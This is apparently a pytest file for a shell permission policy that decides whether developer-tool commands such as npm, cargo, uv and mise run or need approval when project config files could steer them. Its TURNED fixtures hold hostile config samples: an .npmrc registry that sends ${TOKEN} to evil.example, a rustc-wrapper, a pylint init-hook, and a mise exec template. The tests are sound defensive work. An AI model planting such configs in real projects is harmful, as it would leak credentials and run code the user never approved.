"""Programs obey the project they stand in: where it is plain they run, where a planted file steers them they ask."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from hookline.containment import ShellPolicy
from hookline.containment.shell.tables.obeyed import OBEYED

OBEDIENT = {
    "npm ls": ".npmrc",
    "npm ls --depth=0 react": ".npmrc",
    "npm explain react": ".npmrc",
    "npm run": ".npmrc",
    "npm pkg get name": ".npmrc",
    "npm config get registry": ".npmrc",
    "npm install --help": ".npmrc",
    "yarn --version": ".yarnrc.yml",
    "yarn config get registry": ".yarnrc",
    "pnpm -v": ".pnpmfile.cjs",
    "pnpm ls --depth 0": "pnpm-workspace.yaml",
    "bun pm ls": "bunfig.toml",
    "jest --version": "node_modules/jest/package.json",
    "wrangler --version": "node_modules/x",
    "cargo --version": "rust-toolchain.toml",
    "cargo tree --frozen": "rust-toolchain",
    "cargo metadata --no-deps --format-version 1": "rust-toolchain",
    "cargo install --list": "rust-toolchain",
    "rustc -vV": "rust-toolchain.toml",
    "rustup show": "rust-toolchain.toml",
    "go doc fmt.Println": "go.work",
    "uv pip list": ".venv/bin/python",
    "uv python list": ".python-version",
    "uv tree --frozen": ".venv/x",
    "poetry --version": ".poetry/plugins",
    "pdm --version": ".pdm-plugins/x",
    "tox --version": "toxfile.py",
    "pylint --version": ".pylintrc",
    "bundle --version": "Gemfile",
    "rails --version": "bin/rails",
    "rubocop --version": ".rubocop.yml",
    "composer --version": "composer.json",
    "mvn -v": ".mvn/jvm.config",
    "mvn --version": ".mvn/extensions.xml",
    "gradle --version": "gradle.properties",
    "elixir --version": ".erlang",
    "bazel --version": "tools/bazel",
    "hg --version": ".hg/hgrc",
    "tclsh --version": "--version",
    "valgrind --version": ".valgrindrc",
    "latexmk --version": "latexmkrc",
    "exiftool -ver": ".ExifTool_config",
    "opam list": "_opam/x",
    "luarocks list": ".luarocks/config-5.4.lua",
    "mise ls": "mise.toml",
    "trunk --version": ".trunk/trunk.yaml",
    "packer version": "packer-plugin-x",
    "tflint --version": ".tflint.hcl",
    "ansible --version": "ansible.cfg",
    "ansible-doc copy": "ansible.cfg",
    "cargo tree": "Cargo.toml",
    "cargo metadata --format-version 1": "Cargo.toml",
    "uv tree": "pyproject.toml",
    "poetry show --tree": "pyproject.toml",
    "bundle list": "Gemfile",
    "composer show": "composer.json",
    "supervisorctl status": "supervisord.conf",
    "dotnet tool list": "dotnet.config",
    "terraform workspace list": ".terraform/terraform.tfstate",
    "terraform state list": ".terraform/terraform.tfstate",
    "glab mr list": ".git/glab-cli/config.yml",
}
"""A question, and a file of the project that decides what it starts."""


def decision(command: str, root: Path) -> str:
    """What the policy says of a command in a directory."""
    return ShellPolicy.default().judge(command, root=str(root)).decision


def put(path: Path, text: str = "[x]\nevil = 1 {}\n") -> None:
    """A file with a text that nothing plain has."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project in a home."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    place = tmp_path / "home" / "project"
    (place / "sub").mkdir(parents=True)
    return place


@pytest.mark.parametrize(("command", "file"), OBEDIENT.items())
def test_what_a_program_obeys_is_looked_at(command: str, file: str, project: Path) -> None:
    """Where nothing is that it obeys, it runs; with it, it is asked about, also from a directory below."""
    assert decision(command, project) == "allow"
    assert decision(f"cd sub && {command}", project) == "allow"
    put(project / file)
    assert decision(command, project) == "ask"
    assert decision(command, project / "sub") == "ask"
    assert decision(f"cd sub && {command}", project) == "ask"


@pytest.mark.parametrize("command", OBEDIENT)
def test_a_place_that_is_not_known_is_asked_about(command: str, project: Path) -> None:
    """What cannot be looked at may hold anything; so may a directory in which a rule lets files be made."""
    assert decision(f"cd $(cat place) && {command}", project) == "ask"
    assert decision(f"cd - && {command}", project) == "ask"
    assert decision(f"cd */ && {command}", project) == "ask"
    assert decision(f"find . -execdir {command} \\;", project) == "ask"
    policy = ShellPolicy.default().with_rules(allow=["tar xf *"])
    made = policy.judge(f"tar xf x.tar && {command}", root=str(project))
    assert made.decision == "ask"


ASKED_BY_VERSION = sorted(
    name for name in OBEYED if " " not in name and name not in {"npm", "bun", "supervisorctl"}
)


@pytest.mark.parametrize("name", ASKED_BY_VERSION)
def test_every_name_that_is_obeyed_is_found(name: str, project: Path) -> None:
    """Each file that a table names is enough to ask."""
    question = "exiftool -ver" if name == "exiftool" else f"{name} --version"
    assert decision("erl -version" if name == "erl" else question, project) == "allow"
    for file in OBEYED[name]:
        planted = project / file.replace("*", "x")
        if file == ".git":
            continue  # a directory of that name is plain
        put(planted, "\x00")
        assert decision(question, project) == "ask", file
        planted.unlink()


PLAIN = {
    "npm ls": (".npmrc", "# ours\nsave-exact=true\nengine-strict = true\n"),
    "pnpm ls": ("pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n  - apps/web\n"),
    "yarn --version": ("package.json", '{"name": "x", "scripts": {"packageManager": "x"}}'),
    "cargo -V": (".cargo/config.toml", "[build]\njobs = 4\n"),
    "go doc fmt": ("go.mod", "module x\n\ngo 1.22\n"),
    "uv python list": (".python-version", "3.12\n"),
    "uv pip list": ("pyproject.toml", "# tests mirror the source\n[tool.uv]\npackage = true\n"),
    "poetry version": ("pyproject.toml", '[tool.poetry]\nname = "x"\n'),
    "flake8 --version": ("setup.cfg", "[flake8]\nmax-line-length = 100\n"),
    "pylint --version": ("pyproject.toml", '[project]\nname = "x"\n'),
    "dotnet --version": ("global.json", '{"sdk": {"version": "8.0.100"}}'),
    "mise ls": (".tool-versions", "node 20.1.0\n"),
    "docker compose ps": ("compose.yaml", "services:\n  web:\n    image: x\n"),
}


@pytest.mark.parametrize("command", PLAIN)
def test_a_file_that_changes_nothing_is_no_reason(command: str, project: Path) -> None:
    """A file that says nothing that matters is no reason to ask."""
    file, text = PLAIN[command]
    put(project / file, text)
    assert decision(command, project) == "allow"


TURNED = {
    "npm ls": (".npmrc", "registry=https://evil.example/${TOKEN}\n"),
    "npm run": (".npmrc", "save-exact=${TOKEN}\n"),
    "npm root": (".npmrc", "script-shell=./evil\n"),
    "pnpm -v": ("pnpm-workspace.yaml", "packages:\n  - a\npnpmfile: evil.cjs\n"),
    "yarn --version": ("package.json", '{"packag\\u0065Manager": "yarn@4.0.0"}'),
    "pnpm --version": ("package.json", '{"devEngines": {}}'),
    "yarn -v": ("package.json", "{"),
    "cargo -V": (".cargo/config.toml", '[build]\nrustc-wrapper = "./evil"\n'),
    "cargo --list": (".cargo/config", 'include = "x"\n'),
    "go doc fmt": ("go.mod", "module x\nrequire evil.example/x v1.0.0\n"),
    "uv pip list": (".python-version", "./evil\n"),
    "uv python list": ("uv.toml", 'python-downloads-json-url = "https://evil.example"\n'),
    "poetry version": ("pyproject.toml", "[tool.poetry.requires-plugins]\nevil = '*'\n"),
    "flake8 --version": ("tox.ini", "[flake8:local-plugins]\nextension =\n  X = evil:X\n"),
    "pylint --version": ("setup.cfg", "[pylint.MASTER]\ninit-hook = import evil\n"),
    "dotnet --info": ("global.json", '{"sdk": {"paths": ["evil"]}}'),
    "mise ls": (".tool-versions", "node {{exec(command='evil')}}\n"),
}


@pytest.mark.parametrize("command", TURNED)
def test_a_file_that_names_something_to_run_is_asked_about(command: str, project: Path) -> None:
    """The same files, with another version, a wrapper, a plugin, an address, or what cannot be read."""
    file, text = TURNED[command]
    put(project / file, text)
    assert decision(command, project) == "ask"


def test_the_users_own_configuration_is_not_looked_at(project: Path) -> None:
    """What lies in the home itself under the name of a configuration is the user's; a file of a project is not."""
    home = project.parent
    for name in (".npmrc", ".cargo/config.toml", ".tool-versions", ".config/mise/config.toml"):
        put(home / name)
    assert {decision(one, project) for one in ("npm ls", "cargo -V", "mise ls")} == {"allow"}
    put(home / "rust-toolchain.toml")
    assert decision("cargo -V", project) == "ask"


@pytest.mark.parametrize("kind", ["directory", "link", "pipe", "long"])
def test_what_cannot_be_read_is_asked_about(kind: str, project: Path) -> None:
    """Something under the name of a file that is none, or too long to be read, is no plain file."""
    path = project / ".npmrc"
    if kind == "directory":
        path.mkdir()
    elif kind == "link":
        path.symlink_to("nowhere")
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.write_text("#\n" * 600_000)
    assert decision("npm ls", project) == "ask"


@pytest.mark.parametrize("command", ["npm ls -g", "npm root --global", "npm --version", "npm -v"])
def test_what_belongs_to_no_project_is_not_looked_for(command: str, project: Path) -> None:
    """Npm reads nothing of the project where it is asked about what belongs to none."""
    put(project / ".npmrc", "registry=https://evil.example\n")
    assert decision(command, project) == "allow"
    assert decision("npm ls --depth -g", project) == "ask"


def test_a_path_through_a_link_is_looked_at_both_ways(project: Path) -> None:
    """Some programs look above the directory that a link leads to, others above the link."""
    (project / ".mvn").mkdir()
    away = project.parent / "away"
    away.mkdir()
    (project / "link").symlink_to(away)
    (away / "back").symlink_to(project / "sub")
    assert decision("mvn -v", away) == "allow"
    assert decision("cd link && mvn -v", project) == "ask"
    assert decision("cd back && mvn -v", away) == "ask"
    assert decision("cd link/../ && mvn -v", project) == "ask"
